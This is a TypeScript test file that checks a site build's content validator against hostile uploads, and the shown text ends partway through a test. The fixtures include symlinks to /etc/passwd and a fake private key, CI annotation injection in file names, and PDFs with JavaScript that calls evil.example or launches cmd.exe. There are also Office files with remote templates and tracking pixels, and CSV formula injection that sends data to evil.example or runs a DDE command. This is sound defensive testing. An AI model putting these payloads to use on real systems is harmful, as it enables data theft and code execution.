// Each test starts from an attack of ../shared/security-review.md (ids U1–U7, C1–C8) and proves
// that the check names the file and the problem in one line, without a stack trace.
import { execFileSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, describe, expect, it } from 'vitest';
import { checkContent } from '../../src/content-check/check-content.ts';
import { formatBytes, limits } from '../../src/content-check/limits.ts';
import { githubAnnotation } from '../../src/content-check/github-annotations.ts';
import { formatProblem } from '../../src/content-check/problem.ts';
import { servableFile } from '../../src/integrations/servable-file.ts';
import { renderEntryBody } from '../../src/mdx/render-entry-body.ts';
import { renderEmailHtml } from '../../src/newsletter/render-email.ts';
import { testIssue } from './helpers/newsletter-issue.ts';
import { parseEntryBody } from '../../src/mdx/parse-entry-body.ts';
import { checkEntryBody } from '../../src/mdx/read-entry-body.ts';
import { buildSearchIndex } from '../../src/search/build-index.ts';
import { fixtureCopy, runNode } from './helpers/run.ts';
import { makeZip, zerosDeflated, type ZipPart } from './helpers/zip.ts';

const today = '2026-11-22';
const frontmatter =
  'title: Probe\nsummary: Deze bijdrage test wat de build doet met vijandige invoer van buiten.\nthemes: [housing]\npublished: 2026-05-01';
const entry = (body: string) => `---\n${frontmatter}\n---\n\n${body}\n`;

const roots: string[] = [];
afterAll(() => roots.forEach((root) => rmSync(root, { recursive: true, force: true })));

/** The valid fixture with the hostile fixture on top, plus what git can carry but a fixture should not hold. */
function hostileTree(extra: (content: string, outside: string) => void = () => {}): string {
  const root = fixtureCopy('valid');
  roots.push(root);
  const content = join(root, 'content');
  cpSync('tests/fixtures/hostile', content, { recursive: true });
  const outside = join(root, 'outside');
  mkdirSync(outside);
  writeFileSync(join(outside, 'id_rsa'), 'FAKE_SECRET=x\n');
  writeFileSync(join(outside, 'nl.mdx'), entry('GEHEIM-BUITEN-CONTENT'));
  extra(content, outside);
  return content;
}

async function lines(content: string): Promise<string[]> {
  const { problems } = await checkContent({ root: content, today, production: true, cwd: content });
  return problems.map(formatProblem);
}

describe('files beside an entry (U1, C8)', async () => {
  const report = await lines(hostileTree());
  const about = (folder: string) => report.filter((line) => line.startsWith(`practices/${folder}/`));

  it('publishes no HTML, SVG, script or executable, and says what to do instead', () => {
    expect(about('sec-attachments')).toEqual(
      expect.arrayContaining([
        'practices/sec-attachments/evil.html: .html files are not published; save the page as PDF, or link to it on its own site',
        'practices/sec-attachments/index.html: .html files are not published; save the page as PDF, or link to it on its own site',
        'practices/sec-attachments/evil.svg: .svg files are not published; export it as PNG or WebP',
        'practices/sec-attachments/evil.js: .js files are not published; the allowed types are pdf, docx, xlsx, pptx, odt, ods, odp, csv, jpg, jpeg, png, webp, avif, gif',
        'practices/sec-attachments/evil.xhtml: .xhtml files are not published; the allowed types are pdf, docx, xlsx, pptx, odt, ods, odp, csv, jpg, jpeg, png, webp, avif, gif',
        'practices/sec-attachments/tool.exe: .exe files are not published; the allowed types are pdf, docx, xlsx, pptx, odt, ods, odp, csv, jpg, jpeg, png, webp, avif, gif',
      ]),
    );
  });

  it('checks that the content matches the extension', () => {
    expect(about('sec-attachments')).toEqual(
      expect.arrayContaining([
        'practices/sec-attachments/rapport.pdf: the content is not PDF; save it as a real .pdf file, or name it after its type',
        'practices/sec-attachments/foto.png: the content is not PNG; save it as a real .png file, or name it after its type',
        'practices/sec-attachments/tabel.csv: the content is not plain UTF-8 text, as a .csv file must be',
      ]),
    );
  });

  it('reports hidden files, texts in subfolders and upper-case language files instead of skipping or publishing them', () => {
    expect(report).toEqual(
      expect.arrayContaining([
        'practices/sec-attachments/..pdf: hidden file (the name starts with "."); remove it, or rename it without the dot',
        'practices/sec-attachments/.htaccess: hidden file (the name starts with "."); remove it, or rename it without the dot',
        'practices/sec-attachments/sub/nl.mdx: .mdx files are not published; texts are nl.mdx, uk.mdx or en.mdx directly in the entry folder',
        'practices/sec-case/NL.MDX: file names are lowercase; rename to nl.mdx',
      ]),
    );
  });

  it('refuses an image with more pixels than the build should scale (a small file that decompresses to gigabytes)', async () => {
    const content = hostileTree();
    await sharp({ create: { width: 8000, height: 6000, channels: 3, background: '#ffffff' } })
      .png({ compressionLevel: 9 })
      .toFile(join(content, 'practices/goede-praktijk/kaart.png'));
    expect((await lines(content)).filter((line) => line.startsWith('practices/goede-praktijk'))).toEqual([
      'practices/goede-praktijk/kaart.png: the image is 8000×6000 pixels (48 million); scale it down to at most 40 million pixels',
    ]);
  });

  it('counts every frame of an animated image, which the build scales one by one', async () => {
    const content = hostileTree();
    const frames = await Promise.all(
      ['#3366cc', '#cc6633'].map((background) =>
        sharp({ create: { width: 1000, height: 1000, channels: 3, background } })
          .png()
          .toBuffer(),
      ),
    );
    await sharp(
      Array.from({ length: 41 }, (_, index) => frames[index % 2]!),
      { join: { animated: true } },
    )
      .gif({ effort: 1 })
      .toFile(join(content, 'practices/goede-praktijk/bewegend.gif'));
    expect((await lines(content)).filter((line) => line.startsWith('practices/goede-praktijk'))).toEqual([
      'practices/goede-praktijk/bewegend.gif: the image is 1000×1000 pixels in 41 frames (41 million); scale it down or leave out frames: at most 40 million pixels in all',
    ]);
  });

  it('limits the number of files of an entry, without reading them all', async () => {
    const pixel = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#ffffff' } })
      .png()
      .toBuffer();
    const content = hostileTree((tree) => {
      for (let index = 0; index <= limits.entryFolderFiles; index++)
        writeFileSync(join(tree, `practices/goede-praktijk/p${index}.png`), pixel);
    });
    expect((await lines(content)).filter((line) => line.startsWith('practices/goede-praktijk'))).toEqual([
      `practices/goede-praktijk: ${limits.entryFolderFiles + 2} files beside the texts; the content model allows ${limits.entryFolderFiles} per entry: link to the others on their own site, or split the entry`,
    ]);
  });

  it('limits the size of one file and of all files of an entry', async () => {
    const content = hostileTree((tree) => {
      const folder = join(tree, 'practices/goede-praktijk');
      const pdf = (bytes: number) => Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(bytes - 9, 32)]);
      writeFileSync(join(folder, 'groot.pdf'), pdf(limits.fileBytes + 1));
      for (const name of ['a', 'b', 'c', 'd']) writeFileSync(join(folder, `${name}.pdf`), pdf(limits.fileBytes - 1000));
    });
    const found = (await lines(content)).filter((line) => line.startsWith('practices/goede-praktijk'));
    expect(found).toEqual([
      'practices/goede-praktijk: 50 MB is more than the 30 MB allowed for the files of one entry together; make it smaller or split it',
      'practices/goede-praktijk/groot.pdf: 10 MB is more than the 10 MB allowed for one file; make it smaller or split it',
    ]);
  });
});

describe('messages', () => {
  it('are one line each, whatever control characters a name, a key or a value holds', async () => {
    const content = hostileTree((tree) => {
      writeFileSync(join(tree, 'practices/sec-attachments/x\n::error file=ci.yml::pwned.pdf'), '%PDF-1.4\n');
      writeFileSync(
        join(tree, 'organisations/sec-keys.yaml'),
        'id: sec-keys\nname: { nl: A, uk: A, en: A }\n"a\\n::warning::b": 1\n',
      );
      writeFileSync(
        join(tree, 'practices/sec-image-alt/nl.mdx'),
        entry('<Callout type="tip\n::error::x\u001b[2J\u202e">y</Callout>'),
      );
    });
    const found = (await lines(content)).filter((line) => /sec-keys|::/.test(line));
    expect(found).toEqual([
      'organisations/sec-keys.yaml: a\\n::warning::b: unknown field; expected one of id, name, website',
      'practices/sec-attachments/x\\n::error file=ci.yml::pwned.pdf: the name holds U+000A (a line break); rename it',
      'practices/sec-image-alt/nl.mdx:8:1: <Callout>: type="tip\\n::error::x\\u{001b}[2J\\u{202e}" is not allowed; expected one of note, tip, caution',
    ]);
  });
});

describe('symbolic links (U2, C1, C2)', async () => {
  const content = hostileTree((tree, outside) => {
    const folder = join(tree, 'practices/sec-attachments');
    symlinkSync('/etc/passwd', join(folder, 'passwd.txt'));
    symlinkSync(join(outside, 'id_rsa'), join(folder, 'outside.pdf'));
    symlinkSync(outside, join(folder, 'dirlink'));
    symlinkSync('/nonexistent/plan.pdf', join(folder, 'kapot.pdf'));
    symlinkSync('.', join(folder, 'loop'));
    symlinkSync('../..', join(folder, 'repo'));
    mkdirSync(join(tree, 'practices/sec-mdx-link'));
    symlinkSync(join(outside, 'nl.mdx'), join(tree, 'practices/sec-mdx-link/nl.mdx'));
    symlinkSync(outside, join(tree, 'practices/sec-folder-link'));
  });
  const report = await lines(content);
  const link = 'symbolic links are not accepted anywhere under content/; add the file itself';

  it('rejects every link, to a file, a folder, an entry text or an entry folder, whether it works or not', () => {
    for (const path of [
      'practices/sec-attachments/passwd.txt',
      'practices/sec-attachments/outside.pdf',
      'practices/sec-attachments/dirlink',
      'practices/sec-attachments/kapot.pdf',
      'practices/sec-attachments/loop',
      'practices/sec-attachments/repo',
      'practices/sec-mdx-link/nl.mdx',
      'practices/sec-folder-link',
    ]) {
      expect(report).toContain(`${path}: ${link}`);
    }
  });

  it('reads nothing behind a link', () => {
    expect(report.join('\n')).not.toMatch(/GEHEIM|FAKE_SECRET|root:x|ELOOP|ENOENT|\n\s+at /);
    expect(report.filter((line) => line.includes('dirlink/'))).toEqual([]);
  });

  it('is what the dev server goes by: it serves no link and no type outside the list', () => {
    expect(servableFile(content, '/practices/goede-praktijk/plan.pdf')?.path).toBe(
      join(content, 'practices/goede-praktijk/plan.pdf'),
    );
    expect(servableFile(content, '/practices/sec-attachments/outside.pdf')).toBeUndefined();
    expect(servableFile(content, '/practices/sec-attachments/dirlink/id_rsa')).toBeUndefined();
    expect(servableFile(content, '/practices/sec-folder-link/nl.mdx')).toBeUndefined();
    expect(servableFile(content, '/practices/sec-attachments/evil.html')).toBeUndefined();
    expect(servableFile(content, '/practices/sec-attachments/evil.svg')).toBeUndefined();
    expect(servableFile(content, '/practices/goede-praktijk/%2e%2e/%2e%2e/themes/housing.yaml')).toBeUndefined();
  });
});

describe('bounded input (U5, U7, C3, C4, C6, C7)', () => {
  const single = async (files: Record<string, string>) => {
    const root = fixtureCopy('valid', files);
    roots.push(root);
    return (await lines(join(root, 'content'))).filter((line) =>
      Object.keys(files).some((file) => line.startsWith(file)),
    );
  };
  const deep = (levels: string) =>
    `practices/diep/nl.mdx:8:1: nesting too deep (${levels}); the content model allows ${limits.bodyDepth} levels of lists, quotes, components and emphasis: flatten the structure`;

  it('refuses deep nesting with a line naming the file, before any parser can overflow', async () => {
    expect(await single({ 'practices/diep/nl.mdx': entry(`${'- '.repeat(10_000)}x`) })).toEqual([
      deep('10000 lists or quotes opened on one line'),
    ]);
    expect(await single({ 'practices/diep/nl.mdx': entry(`${'>'.repeat(10_000)} x`) })).toEqual([
      deep('10000 lists or quotes opened on one line'),
    ]);
    expect(
      await single({ 'practices/diep/nl.mdx': entry(`${'<Callout>'.repeat(10_000)}x${'</Callout>'.repeat(10_000)}`) }),
    ).toEqual([deep(`more than ${limits.openContainers} components open at once`)]);
  });

  it('refuses what would make the parser slow, before parsing: long lines, many tags', async () => {
    expect(await single({ 'practices/traag/nl.mdx': entry(`Zie ${'_a'.repeat(6000)}`) })).toEqual([
      `practices/traag/nl.mdx:8:1: line of 12004 characters; the content model allows ${limits.lineLength}: break the paragraph into shorter lines`,
    ]);
    // Tags spanning lines: what the nesting scan, which reads a tag on one line, does not see.
    expect(await single({ 'practices/traag/nl.mdx': entry(`${'a</Callout\n>'.repeat(600)}`) })).toEqual([
      `practices/traag/nl.mdx:${8 + limits.bodyTags}:1: more than ${limits.bodyTags} tags in one text; the content model allows ${limits.bodyTags}: write the rest in Markdown or split the text`,
    ]);
  });

  it('measures the depth of what was parsed, too', async () => {
    const nested = Array.from({ length: 20 }, (_, level) => `${'  '.repeat(level)}- niveau ${level}`).join('\n');
    const tooDeep = deep(`more than ${limits.bodyDepth} levels`);
    expect(await single({ 'practices/diep/nl.mdx': entry(nested) })).toEqual([tooDeep.replace(':8:1:', ':24:33:')]);
    expect(await single({ 'practices/diep/nl.mdx': entry(`${'*'.repeat(200)}x${'*'.repeat(200)}`) })).toEqual([
      tooDeep.replace(':8:1:', ':8:63:'),
    ]);
  });

  it('limits the size of a text and of a data file', async () => {
    const body = 'Zie [de site](https://example.org/a) voor meer. '.repeat(5000);
    expect(await single({ 'practices/groot/nl.mdx': entry(body) })).toEqual([
      'practices/groot/nl.mdx: 241 KB is more than the 200 KB allowed for a text; make it smaller or split it',
    ]);
    let yaml = 'id: manykeys\n';
    for (let index = 0; index < 300_000; index++) yaml += `k${index}: 1\n`;
    expect(await single({ 'organisations/manykeys.yaml': yaml })).toEqual([
      'organisations/manykeys.yaml: 3.2 MB is more than the 50 KB allowed for a data file; make it smaller or split it',
    ]);
  });

  it('reports at most a page of problems per file', async () => {
    let yaml = 'id: veel\nname: { nl: Veel, uk: Veel, en: Veel }\n';
    for (let index = 0; index < 2000; index++) yaml += `k${index}: 1\n`;
    const found = await single({ 'organisations/veel.yaml': yaml });
    expect(found).toHaveLength(limits.problemsPerFile + 1);
    expect(found).toContain(
      `organisations/veel.yaml: more than ${limits.problemsPerFile} problems; the rest are not listed: fix these and run the check again`,
    );
  });

  it('reports at most a page of problems per file, references included', async () => {
    const ids = Array.from({ length: 300 }, () => 'x').join(', ');
    const found = await single({
      'practices/lijst/nl.mdx': `---\n${frontmatter}\nmunicipalities: [${ids}]\norganisations: [${ids}]\n---\n\nx\n`,
    });
    expect(found).toHaveLength(limits.problemsPerFile + 1);
    expect(found).toEqual(
      expect.arrayContaining([
        `practices/lijst/nl.mdx: more than ${limits.problemsPerFile} problems; the rest are not listed: fix these and run the check again`,
        'practices/lijst/nl.mdx: municipalities: has 300 items; expected at most 100',
        'practices/lijst/nl.mdx: organisations: has 300 items; expected at most 100',
      ]),
    );
  });

  it('limits names in data files', async () => {
    const name = 'A'.repeat(limits.nameLength + 1);
    expect(await single({ 'organisations/lang.yaml': `id: lang\nname: { nl: ${name}, uk: A, en: A }\n` })).toEqual([
      `organisations/lang.yaml: name.nl: "${'A'.repeat(57)}..." has 121 characters; expected at most ${limits.nameLength}`,
    ]);
  });

  it('names numbers that are not numbers as YAML wrote them', async () => {
    const municipality = (coordinates: string) =>
      `id: nergens\nname: { nl: Nergens, uk: Nergens, en: Nergens }\ncountry: NL\nregion: { nl: R, uk: R, en: R }\npilot: false\ncoordinates: ${coordinates}\n`;
    expect(await single({ 'municipalities/nergens.yaml': municipality('[.nan, -.inf]') })).toEqual([
      'municipalities/nergens.yaml: coordinates[0]: found .nan; expected a number',
      'municipalities/nergens.yaml: coordinates[1]: found an infinite number; expected a number',
    ]);
  });

  it('names inherited property names as unknown fields like any other', async () => {
    expect((await lines(hostileTree())).filter((line) => line.startsWith('organisations/sec-proto'))).toEqual([
      'organisations/sec-proto.yaml: __proto__: unknown field; expected one of id, name, website',
      'organisations/sec-proto.yaml: constructor: unknown field; expected one of id, name, website',
      'organisations/sec-proto.yaml: hasOwnProperty: unknown field; expected one of id, name, website',
      'organisations/sec-proto.yaml: toString: unknown field; expected one of id, name, website',
    ]);
  });

  it('sees tags inside an image description', async () => {
    expect((await lines(hostileTree())).filter((line) => line.startsWith('practices/sec-image-alt'))).toEqual([
      'practices/sec-image-alt/nl.mdx:8:1: an image description ![…] may hold plain text only, no tags or braces; write \\< or \\{ for a literal one',
    ]);
  });
});

describe('what a build publishes (U1, U2, U3)', () => {
  const build = (content: string, out: string) =>
    runNode(['node_modules/astro/bin/astro.mjs', 'build'], {
      KB_CONTENT_DIR: content,
      KB_OUT_DIR: out,
      KB_CACHE_DIR: `${out}-cache`,
    });

  it('stops on hostile files and symbolic links, naming them, and publishes nothing', () => {
    const content = hostileTree((tree) =>
      symlinkSync('/etc/passwd', join(tree, 'practices/sec-attachments/passwd.txt')),
    );
    const out = join(content, '..', 'dist');
    const { status, output } = build(content, out);
    expect(status).not.toBe(0);
    expect(output).toContain('practices/sec-attachments/evil.svg: .svg files are not published');
    expect(output).toContain('practices/sec-attachments/passwd.txt: symbolic links are not accepted');
    expect(existsSync(join(out, 'files'))).toBe(false);
  });

  it('publishes the accepted files of published entries only: no draft files, no links in the Pages artifact', () => {
    const root = fixtureCopy('valid', {
      'practices/sec-draft/nl.mdx':
        '---\ntitle: Concept\nsummary: Dit concept is nog niet klaar en mag niet in een productiebuild verschijnen.\nthemes: [housing]\npublished: 2027-01-01\nstatus: draft\nsources:\n  - title: Vertrouwelijk\n    file: vertrouwelijk-concept.pdf\n---\n\nConcept.\n',
      'practices/sec-draft/vertrouwelijk-concept.pdf': '%PDF-1.4 CONFIDENTIAL\n',
    });
    roots.push(root);
    const out = join(root, 'dist');
    const { status, output } = build(join(root, 'content'), out);
    expect(output).not.toContain('content problem');
    expect(status).toBe(0);
    const artifact = mkdtempSync(join(tmpdir(), 'kb-artifact-'));
    roots.push(artifact);
    // What actions/upload-pages-artifact uploads: the folder with every link dereferenced.
    execFileSync('tar', ['--dereference', '--hard-dereference', '-C', out, '-cf', join(artifact, 'a.tar'), '.']);
    const listing = execFileSync('tar', ['-tvf', join(artifact, 'a.tar')], { encoding: 'utf8' });
    expect(listing).toContain('./files/practices/goede-praktijk/plan.pdf');
    expect(listing).not.toContain('sec-draft');
    expect(listing).not.toMatch(/^l/m);
    expect(listing).not.toMatch(/files\/.*\.(?:html|svg|js)$/m);
  });
});

describe('frontmatter that reads one way only, and files that can act (issue 20: items 2 and 3)', async () => {
  const folder = 'practices/goede-praktijk';
  const fields = (extra: string, eol = '\n') =>
    [
      '---',
      'title: Een goede praktijk',
      ...frontmatter.split('\n').slice(1),
      ...extra.split('\n').filter(Boolean),
      '---',
      '',
      'Tekst.',
      '',
    ].join(eol);

  /** The valid fixture with files written into one entry folder; the check's lines and records. */
  async function checked(files: Record<string, string | Buffer>) {
    const root = fixtureCopy('valid');
    roots.push(root);
    const content = join(root, 'content');
    for (const [path, data] of Object.entries(files)) {
      mkdirSync(join(content, path, '..'), { recursive: true });
      writeFileSync(join(content, path), data);
    }
    const result = await checkContent({ root: content, today, production: true, cwd: content });
    return { ...result, lines: result.problems.map(formatProblem) };
  }
  const draftNote = '# opmerking voor de redactie: concept, niet publiceren ---\nstatus: draft';

  it('reads a line that ends in --- as a field, not as the end of the fields: the draft stays a draft', async () => {
    const { lines: found, entries } = await checked({ [`${folder}/en.mdx`]: fields(draftNote) });
    expect(found).toEqual([]);
    expect(entries.find((entry) => entry.slug === 'goede-praktijk' && entry.lang === 'en')?.data['status']).toBe(
      'draft',
    );
  });

  it('reads a title that ends in ---, an empty frontmatter and CRLF line endings as YAML readers do', async () => {
    const { lines: found, entries } = await checked({
      [`${folder}/en.mdx`]: fields(draftNote, '\r\n'),
      [`${folder}/uk.mdx`]: fields('').replace('title: Een goede praktijk', 'title: Wonen---'),
      'practices/leeg/nl.mdx': '---\n---\n\nTekst.\n',
    });
    const data = (lang: string) =>
      entries.find((entry) => entry.slug === 'goede-praktijk' && entry.lang === lang)?.data;
    expect(data('en')?.['status']).toBe('draft');
    expect(data('uk')?.['title']).toBe('Wonen---');
    expect(found).toEqual([
      'practices/leeg/nl.mdx: published: is required; expected a date YYYY-MM-DD',
      'practices/leeg/nl.mdx: summary: is required; expected text',
      'practices/leeg/nl.mdx: themes: is required; expected a list',
      'practices/leeg/nl.mdx: title: is required; expected text',
    ]);
  });

  it('names a frontmatter that is never closed', async () => {
    const { lines: found } = await checked({ [`${folder}/en.mdx`]: `---\n${frontmatter}\n\nTekst.\n` });
    expect(found).toEqual([
      `${folder}/en.mdx:1:1: the frontmatter is not closed; end the fields with a line that holds only "---"`,
    ]);
  });

  it('does not publish the draft whose note ends in ---: no page, no feed, no sitemap entry, no search entry', () => {
    const root = fixtureCopy('valid', {
      'practices/sec-fence/nl.mdx': `---\ntitle: Vertrouwelijk concept\nsummary: Dit concept is nog niet klaar en mag niet in een productiebuild verschijnen.\nthemes: [housing]\npublished: 2026-05-01\n${draftNote}\n---\n\nGEHEIM-CONCEPT-TEKST\n`,
    });
    roots.push(root);
    const out = join(root, 'dist');
    const { status, output } = runNode(['node_modules/astro/bin/astro.mjs', 'build'], {
      KB_CONTENT_DIR: join(root, 'content'),
      KB_OUT_DIR: out,
      KB_CACHE_DIR: `${out}-cache`,
    });
    expect(output).not.toContain('content problem');
    expect(status).toBe(0);
    expect(existsSync(join(out, 'nl/practices/goede-praktijk/index.html'))).toBe(true);
    // grep answers 1 when it finds nothing: the files that hold the draft's slug, title or text.
    const leaks = execFileSync('sh', [
      '-c',
      'grep -rlE "sec-fence|GEHEIM-CONCEPT-TEKST|Vertrouwelijk concept" "$0" || true',
      out,
    ]);
    expect(leaks.toString()).toBe('');
  });

  /** A PDF of numbered objects, as small as a test can write it (readers rebuild the missing table). */
  const pdf = (...objects: (string | Buffer)[]) =>
    Buffer.concat([
      Buffer.from('%PDF-1.7\n'),
      ...objects.flatMap((object, index) => [
        Buffer.from(`${index + 1} 0 obj\n`),
        Buffer.from(object),
        Buffer.from('\nendobj\n'),
      ]),
      Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n'),
    ]);
  const stream = (dictionary: string, data: Buffer) =>
    Buffer.concat([
      Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
      data,
      Buffer.from('\nendstream'),
    ]);
  /** Objects packed in a compressed object stream, where a text search of the file does not see them. */
  const objectStream = (objects: Record<number, string>) => {
    let header = '';
    let bodies = '';
    for (const [number, object] of Object.entries(objects)) {
      header += `${number} ${bodies.length} `;
      bodies += `${object}\n`;
    }
    const count = Object.keys(objects).length;
    return stream(
      `/Type /ObjStm /N ${count} /First ${header.length} /Filter /FlateDecode`,
      deflateSync(header + bodies),
    );
  };
  const page = '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>';
  const text = stream('', Buffer.from('BT /F1 12 Tf (Zie /JavaScript en /Launch in de handleiding) Tj ET'));

  const contentTypes = (main: string) =>
    `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${
      { word: 'wordprocessingml.document', xl: 'spreadsheetml.sheet', ppt: 'presentationml.presentation' }[
        main.split('/')[0]!
      ]
    }.main+xml"/></Types>`;
  const relationships = (...relationship: string[]) =>
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship.join('')}</Relationships>`;
  const type = (name: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
  /** An OOXML package with its main part and the given parts. */
  const ooxml = (main: string, parts: ZipPart[] = []) =>
    makeZip([
      { name: '[Content_Types].xml', data: contentTypes(main) },
      {
        name: '_rels/.rels',
        data: relationships(`<Relationship Id="rId1" Type="${type('officeDocument')}" Target="${main}"/>`),
      },
      { name: main, data: '<?xml version="1.0" encoding="UTF-8"?><document><p>Tekst</p></document>' },
      ...parts,
    ]);
  const openDocument = (
    kind: string,
    parts: ZipPart[] = [],
    body = '<text:a xlink:href="https://www.vng.nl/">VNG</text:a>',
  ) =>
    makeZip([
      { name: 'mimetype', data: `application/vnd.oasis.opendocument.${kind}`, store: true },
      {
        name: 'content.xml',
        data: `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><text:p>${body}</text:p></office:body></office:document-content>`,
      },
      ...parts,
    ]);
  const saveAsPdf = 'save it again as PDF/A, or print it to PDF, without scripts, actions or attachments';
  const officeAdvice =
    'save it again from the program that made it without macros, embedded objects, controls or linked files, or save it as PDF';

  const files = await checked({
    // The three files of the review, and what ordinary documents hold.
    [`${folder}/factuur.pdf`]: pdf(
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL("https://evil.example")) >> /Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >> >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>] >>',
      '<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>',
      stream('/Type /EmbeddedFile', Buffer.from('MZ')),
    ),
    [`${folder}/verborgen.pdf`]: pdf(
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
      objectStream({
        5: '<< /S /J#61vaScript /J#53 (this.exportDataObject({cName: "a"})) >>',
        6: '<< /A#41 << /O 5 0 R >> >>',
      }),
    ),
    [`${folder}/gewoon.pdf`]: pdf(
      '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      page,
      text,
      '<< /Subtype /Link /A << /S /URI /URI (https://www.vng.nl/) >> >>',
    ),
    [`${folder}/verwijzing.pdf`]: pdf(
      '<< /Type /Catalog /OpenAction 2 0 R >>',
      objectStream({ 2: '[3 0 R /FitH 800]' }),
    ),
    [`${folder}/macro.docx`]: ooxml('word/document.xml', [
      { name: 'word/vbaProject.bin', data: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) },
      {
        name: 'word/_rels/settings.xml.rels',
        data: relationships(
          `<Relationship Id="rId1" Type="${type('attachedTemplate')}" Target="https://evil.example/sjabloon.dotm" TargetMode="External"/>`,
        ),
      },
    ]),
    [`${folder}/bom.docx`]: ooxml('word/document.xml', [{ name: 'word/media/image1.xml', ...zerosDeflated(1024) }]),
    [`${folder}/plaatje.docx`]: ooxml('word/document.xml', [
      {
        name: 'word/_rels/document.xml.rels',
        data: relationships(
          `<Relationship Id="rId5" Type="${type('hyperlink')}" Target="https://www.vng.nl/" TargetMode="External"/>`,
          `<r:Relationship xmlns:r="urn:x" Id="rId6" Type="${type('image')}" Target="\\\\evil.example\\share\\pixel.png" TargetMode="&#69;xternal"/>`,
        ),
      },
    ]),
    [`${folder}/knoppen.xlsx`]: ooxml('xl/workbook.xml', [
      { name: 'xl/embeddings/oleObject1.bin', data: 'OLE' },
      { name: 'xl/activeX/activeX1.xml', data: '<ax:ocx/>' },
    ]),
    [`${folder}/gewoon.pptx`]: ooxml('ppt/presentation.xml', [
      {
        name: 'ppt/slides/_rels/slide1.xml.rels',
        data: relationships(
          `<Relationship Id="rId2" Type="${type('hyperlink')}" Target="mailto:redactie@example.org" TargetMode="External"/>`,
        ),
      },
    ]),
    [`${folder}/macro.odt`]: openDocument('text', [
      { name: 'Basic/Standard/Module1.xml', data: '<script:module/>' },
      { name: 'Object 1', data: 'OLE' },
    ]),
    [`${folder}/plaatje.odp`]: openDocument(
      'presentation',
      [],
      '<draw:frame><draw:image xlink:href="https://evil.example/pixel.gif?track=1"/></draw:frame>',
    ),
    [`${folder}/grafiek.ods`]: openDocument('spreadsheet', [
      { name: 'Object 1/content.xml', data: '<office:document-content/>' },
      { name: 'ObjectReplacements/Object 1', data: 'plaatje' },
    ]),
    [`${folder}/formules.csv`]:
      'naam,link,som\r\nx,"=HYPERLINK(""https://evil.example/?d=""&A1,""klik"")",1\r\ny,"=cmd|\' /C calc\'!A0",2\r\nz,@SUM(A1:A2),3\r\n',
    [`${folder}/puntkomma.csv`]: 'naam;bedrag\n"Huur; -1";-1.234,56\n"tekst;+cmd|x";3\n',
    [`${folder}/bedragen.csv`]: 'post,bedrag,opmerking\nhuur,-12,-\nkorting,+3.5,"-5%"\n',
  });
  const about = (name: string) => files.lines.filter((line) => line.startsWith(`${folder}/${name}`));

  const accepted = () => files.files.find((entry) => entry.slug === 'goede-praktijk')?.files;

  it('refuses a PDF with JavaScript, an action on opening, a launch or an embedded file, also with names in #xx and objects in a compressed stream; publishes one whose opening view, links and text merely name those things', () => {
    expect(files.lines.filter((line) => line.includes('.pdf'))).toEqual([
      `${folder}/factuur.pdf: the PDF contains JavaScript (/JavaScript), an action when it opens (/OpenAction), an action that starts a program (/Launch), and an embedded file (/EmbeddedFile); ${saveAsPdf}`,
      `${folder}/verborgen.pdf: the PDF contains JavaScript (/JavaScript), an action when it opens (/OpenAction), and actions on events (/AA); ${saveAsPdf}`,
    ]);
    expect(accepted()).toEqual(expect.arrayContaining(['gewoon.pdf', 'verwijzing.pdf', 'plan.pdf']));
    expect(accepted()).not.toContain('factuur.pdf');
  });

  it('refuses Office and OpenDocument files with macros, embedded objects, ActiveX or linked files that open with them; publishes web and mail links and charts', () => {
    const office = /\.(?:docx|xlsx|pptx|odt|ods|odp):/;
    expect(files.lines.filter((line) => office.test(line) && !line.includes('bom.docx'))).toEqual([
      `${folder}/knoppen.xlsx: the document contains an embedded object (xl/embeddings/oleObject1.bin) and an ActiveX control (xl/activeX/activeX1.xml); ${officeAdvice}`,
      `${folder}/macro.docx: the document contains macros (word/vbaProject.bin) and a link to a file outside it that opens with it (attachedTemplate: https://evil.example/sjabloon.dotm, in word/_rels/settings.xml.rels); ${officeAdvice}`,
      `${folder}/macro.odt: the document contains macros (Basic/Standard/Module1.xml) and an embedded object (Object 1); ${officeAdvice}`,
      `${folder}/plaatje.docx: the document contains a link to a file outside it that opens with it (image: \\\\evil.example\\share\\pixel.png, in word/_rels/document.xml.rels); ${officeAdvice}`,
      `${folder}/plaatje.odp: the document contains a link to a file outside it that opens with it (image: https://evil.example/pixel.gif?track=1, in content.xml); ${officeAdvice}`,
    ]);
    expect(accepted()).toEqual(expect.arrayContaining(['gewoon.pptx', 'grafiek.ods']));
  });

  it('refuses a 1 MB .docx that unpacks to 1 GiB from its zip directory, without unpacking it', () => {
